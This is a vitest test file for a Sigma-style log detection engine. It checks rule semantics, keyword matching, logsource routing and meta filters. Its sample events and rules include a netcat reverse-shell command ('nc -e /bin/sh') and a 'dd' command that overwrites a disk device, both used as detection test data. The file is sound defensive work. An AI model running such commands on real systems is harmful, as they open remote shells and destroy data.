import { describe, expect, it } from "vitest";
import { makeEvent, ruleSetOf, ruleText, runIds } from "../test-helpers";
import { createDetector } from "./detector";

const RID = "11111111-1111-4111-8111-111111111111";
const matchesRule = (detection: string, fields: Record<string, string>, raw?: string): boolean =>
  runIds(ruleSetOf(ruleText(detection)), [makeEvent(fields, { raw })]).includes(RID);

describe("detection semantics", () => {
  it("ANDs map items and ORs a list of maps", () => {
    const det =
      "  sel:\n    - Image|endswith: /nc\n      CommandLine|contains: ' -e '\n    - Image|endswith: /socat\n  condition: sel";
    expect(matchesRule(det, { Image: "/usr/bin/nc", CommandLine: "nc -e /bin/sh 1.2.3.4" })).toBe(
      true,
    );
    expect(matchesRule(det, { Image: "/usr/bin/nc", CommandLine: "nc -l" })).toBe(false);
    expect(matchesRule(det, { Image: "/usr/bin/socat" })).toBe(true);
  });

  it("searches keywords in the raw message, else in every string field", () => {
    const det =
      "  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n  condition: keywords";
    expect(matchesRule(det, {}, "sshd[1]: FAILED PASSWORD for root")).toBe(true);
    expect(matchesRule(det, { msg: "pam: authentication failure; user=x" })).toBe(true);
    expect(matchesRule(det, { msg: "accepted" })).toBe(false);
  });

  it("names the field a keyword hit when there is no raw message", () => {
    const set = ruleSetOf(
      ruleText("  keywords:\n    - 'authentication failure'\n  condition: keywords"),
    );
    const [m] = createDetector(set).process(
      makeEvent({ a: "ok", msg: "pam: authentication failure" }),
    );
    expect(m!.fields).toEqual({ keywords: ["msg"] });
  });

  it("ANDs keywords with '|all'", () => {
    const det =
      "  keywords:\n    '|all':\n      - 'dd'\n      - 'of=/dev/sda'\n  condition: keywords";
    expect(matchesRule(det, {}, "dd if=/dev/zero of=/dev/sda")).toBe(true);
    expect(matchesRule(det, {}, "dd if=/dev/zero of=/tmp/x")).toBe(false);
  });

  it("evaluates 1 of / all of / not with _ exclusion", () => {
    const det = [
      "  selection_a:\n    Image|endswith: /curl",
      "  selection_b:\n    CommandLine|contains: http",
      "  _helper:\n    User: nobody",
      "  filter_main:\n    User: root",
      "  condition: all of selection_* and not 1 of filter_*",
    ].join("\n");
    expect(
      matchesRule(det, { Image: "/bin/curl", CommandLine: "curl http://x", User: "bob" }),
    ).toBe(true);
    expect(
      matchesRule(det, { Image: "/bin/curl", CommandLine: "curl http://x", User: "root" }),
    ).toBe(false);
    expect(matchesRule(det, { Image: "/bin/curl", CommandLine: "curl ftp://x", User: "bob" })).toBe(
      false,
    );
    const them = "  sel:\n    Image: /bin/a\n  _never:\n    Image: /bin/b\n  condition: 1 of them";
    expect(matchesRule(them, { Image: "/bin/b" })).toBe(false); // `them` skips _never
    expect(matchesRule(them, { Image: "/bin/a" })).toBe(true);
  });

  it("explains which selections matched", () => {
    const set = ruleSetOf(
      ruleText("  sel:\n    Image: /bin/a\n  other:\n    User: x\n  condition: sel or other"),
    );
    const [m] = createDetector(set).process(makeEvent({ Image: "/bin/a" }));
    expect(m).toMatchObject({
      ruleId: RID,
      title: "Test rule",
      level: "high",
      author: "infrasec tests",
      selections: ["sel"],
      fields: { Image: "/bin/a" },
      correlation: null,
    });
  });
});

describe("logsource routing", () => {
  const set = ruleSetOf(
    ruleText("  keywords:\n    - evil\n  condition: keywords"),
    "title: sshd\nid: 33333333-3333-4333-8333-333333333333\nlogsource: {product: linux, service: sshd}\ndetection: {keywords: [evil], condition: keywords}\n",
    "title: win\nid: 44444444-4444-4444-8444-444444444444\nlogsource: {product: windows}\ndetection: {keywords: [evil], condition: keywords}\n",
    "title: any linux\nid: 55555555-5555-4555-8555-555555555555\nlogsource: {product: linux}\ndetection: {keywords: [evil], condition: keywords}\n",
  );
  const events = [
    makeEvent({}, { raw: "evil" }),
    makeEvent({}, { raw: "evil", logsource: { product: "linux", service: "sshd" } }),
    makeEvent({}, { raw: "evil", logsource: { product: "windows" } }),
  ];

  it("tests an event only against rules whose every logsource attribute equals the event's", () => {
    expect(runIds(set, [events[0]!])).toEqual([RID, "55555555-5555-4555-8555-555555555555"]);
    expect(runIds(set, [events[1]!])).toEqual([
      "33333333-3333-4333-8333-333333333333",
      "55555555-5555-4555-8555-555555555555",
    ]);
    expect(runIds(set, [events[2]!])).toEqual(["44444444-4444-4444-8444-444444444444"]);
  });

  it("gives identical matches in indexed and naive modes, with fewer evaluations indexed", () => {
    expect(runIds(set, events, { naive: true })).toEqual(runIds(set, events));
    const indexed = createDetector(set);
    const naive = createDetector(set, { naive: true });
    for (const e of events) {
      indexed.process(e);
      naive.process(e);
    }
    expect(indexed.stats.ruleEvaluations).toBeLessThan(naive.stats.ruleEvaluations);
  });
});

describe("meta filters", () => {
  const rule = ruleText("  sel:\n    Image|endswith: /curl\n  condition: sel");
  const filter = (logsource: string): string =>
    `title: Filter admins\nlogsource: ${logsource}\nfilter:\n  rules:\n    - ${RID}\n  selection:\n    User|startswith: adm_\n  condition: selection\n`;

  it("ANDs the negated filter condition onto the referenced rule", () => {
    const set = ruleSetOf(rule, filter("{product: linux, category: process_creation}"));
    expect(set.issues).toEqual([]);
    expect(runIds(set, [makeEvent({ Image: "/bin/curl", User: "adm_bob" })])).toEqual([]);
    expect(runIds(set, [makeEvent({ Image: "/bin/curl", User: "bob" })])).toEqual([RID]);
  });

  it("keeps filter identifiers apart from the rule's (1 of selection* cannot absorb them)", () => {
    const r = ruleText("  selection:\n    Image|endswith: /curl\n  condition: 1 of selection*");
    const set = ruleSetOf(r, filter("{product: linux}"));
    expect(runIds(set, [makeEvent({ Image: "/bin/wget", User: "adm_x" })])).toEqual([]);
  });

  it("warns about unknown rules and mismatched logsources", () => {
    const set = ruleSetOf(
      rule,
      filter("{product: windows}"),
      filter("{product: linux}").replace(RID, "nope"),
    );
    expect(set.issues.map((i) => `${i.severity} ${i.field}: ${i.message}`)).toEqual([
      `warning logsource: does not match the logsource of rule '${RID}'`,
      "warning filter.rules: references unknown rule 'nope'",
    ]);
  });
});
